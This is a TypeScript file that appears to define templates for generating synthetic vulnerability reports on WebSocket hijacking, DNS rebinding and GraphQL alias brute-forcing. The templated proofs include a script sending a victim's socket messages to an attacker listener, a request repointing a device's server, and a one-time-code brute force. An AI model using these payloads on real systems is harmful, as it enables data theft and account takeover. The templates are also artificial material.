import type { VulnerabilityClass } from './vulnerability-class.ts'

const socketHijack: VulnerabilityClass = {
  key: 'socket-hijack',
  type: 'WebSocket',
  cwe: 1385,
  weight: 2,
  surfaces: ['web', 'api'],
  shape: 'click',
  severities: [
    ['High', 5],
    ['Medium', 4],
  ],
  places: [
    { path: '/ws', parameter: 'Origin', detail: 'the chat' },
    { path: '/realtime?v=2', parameter: 'Origin', detail: 'the notifications' },
    { path: '/graphql-ws', parameter: 'Origin', detail: 'the subscriptions' },
  ],
  titles: [
    'Cross-site WebSocket hijacking on wss://«host»«path»',
    'WebSocket «path» does not check the origin, messages of the victim can be read',
    'CSWSH: «detail» of a signed-in «customer» from any page',
  ],
  summaries: [
    'The handshake of `«path»` trusts the cookie and does not look at `Origin`. A foreign page opens the socket in the name of the visitor and reads along.',
    'wss://«host»«path» can be opened from anywhere. Right after connecting it sends the history of «detail».',
  ],
  steps: [
    [
      'Sign in to «host».',
      'Open the page below from another origin.',
      'Messages appear in the console and at my listener.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Page of the attacker:',
        lang: 'js',
        code: `const socket = new WebSocket('wss://«host»«path»')
socket.onopen = () => socket.send(JSON.stringify({ type: 'history', limit: 50 }))
socket.onmessage = ({ data }) => navigator.sendBeacon('https://«listener»/', data)`,
      },
      {
        say: 'What comes first:',
        lang: 'json',
        code: `{
  "type": "history",
  "user": "«victim»",
  «record»
}`,
      },
    ],
  ],
  impacts: [
    'Reading and writing messages in the name of the victim while a tab is open.',
    'All that goes through the socket is lost to the attacker: «secrets».',
  ],
  fixes: ['Check `Origin` in the handshake, and ask for a token in the first message.'],
  notes: ['Reproduced in Firefox; Chrome blocks it because of the partitioned cookies. Medium to High.'],
}

const dnsRebinding: VulnerabilityClass = {
  key: 'dns-rebinding',
  type: 'Cross-origin policy',
  cwe: 350,
  weight: 1,
  surfaces: ['device', 'code'],
  shape: 'click',
  severities: [
    ['High', 3],
    ['Medium', 5],
  ],
  places: [
    { method: 'POST', path: '/api/config', parameter: 'Host', detail: 'the local web interface' },
    { method: 'POST', path: '/rpc', parameter: 'Host', detail: 'the debug port of the command line tool' },
  ],
  titles: [
    'DNS rebinding reaches «detail» of «target» from any website',
    '«target»: «detail» does not check the Host header (DNS rebinding)',
    'A website can reconfigure «target» in the local network',
  ],
  summaries: [
    '«Detail» answers to every host name. A website can change where its own name points to and then talk to the device in the visitor’s network.',
  ],
  steps: [
    [
      'Visit the page at `rebind.«attacker»` from the same network as the device.',
      'Wait about a minute until the name points to `192.168.1.20`.',
      'The page reads the configuration and shows it.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The request as the device sees it:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: rebind.«attacker»
Origin: http://rebind.«attacker»
Content-Type: application/json

{"mqttServer":"«listener»"}

HTTP/1.1 200 OK
Server: «server»

{"saved":true}`,
      },
    ],
  ],
  impacts: [
    'A visit to a website changes the settings of a device at home, which then reports to the attacker.',
  ],
  fixes: ['Refuse requests whose `Host` is not the device’s own address or name.'],
  notes: [
    'Took 70 s in Firefox with a TTL of 1. Works, also with the default settings of the router in the lab.',
  ],
}

const graphql: VulnerabilityClass = {
  key: 'graphql',
  type: 'GraphQL',
  cwe: 770,
  weight: 4,
  surfaces: ['api', 'web', 'mobile'],
  shape: 'write',
  severities: [
    ['High', 2],
    ['Medium', 5],
    ['Low', 3],
  ],
  places: [
    { method: 'POST', path: '/graphql', parameter: 'alias', detail: 'aliases' },
    { method: 'POST', path: '/graphql', parameter: 'batch', detail: 'arrays of queries' },
    {
      method: 'POST',
      path: '«api»/graphql',
      parameter: '__schema',
      detail: 'introspection with hidden mutations',
    },
  ],
  titles: [
    'GraphQL «parameter» bypasses the rate limit: 1,000 codes in one request',
    'GraphQL: «detail» at «host»«path»',
    'Brute force through GraphQL «detail»',
    'Introspection shows `deleteAny«TypeName»` and it works for a «customer»',
  ],
  summaries: [
    'The limit of `«path»` counts requests, not operations. With «detail» one request tries hundreds of values.',
    'Through «detail» the schema gives away mutations that the app never uses, and at least one of them does not check rights.',
  ],
  steps: [
    [
      'Send the query below with your own account as the user.',
      'Each alias has its own answer. One of them is `true`.',
      'The limit header went down by one.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Shortened, the real one has 1,000 lines:',
        lang: 'graphql',
        code: `mutation {
  a0: verifyCode(user: "«me»", code: "000000") { ok }
  a1: verifyCode(user: "«me»", code: "000001") { ok }
  a2: verifyCode(user: "«me»", code: "000002") { ok }
}`,
      },
      {
        say: 'Answer:',
        lang: 'http',
        code: 'HTTP/2 200\nX-RateLimit-Remaining: 59\n\n{"data":{"a0":{"ok":false},"a1":{"ok":false},"a2":{"ok":true}}}',
      },
    ],
    [
      {
        say: 'From the schema:',
        lang: 'json',
        code: `{
  "mutationType": { "fields": [
    { "name": "update«TypeName»" },
    { "name": "deleteAny«TypeName»", "description": "internal, do not use in clients" },
    { "name": "impersonate" }
  ] }
}`,
      },
    ],
  ],
  impacts: [
    'One-time codes, coupons and PINs can be guessed in seconds.',
    'Operations meant for «staffRole»s are known to everybody and partly work.',
  ],
  fixes: ['Limit by the cost of the query, and the number of aliases and of operations in a batch.'],
  notes: [
    '1,000 aliases answered in 2.4 s. Code lives for five minutes, so it is guessable. Depth limit exists, alias limit does not.',
  ],
}

export const realtimeClasses: readonly VulnerabilityClass[] = [socketHijack, dnsRebinding, graphql]
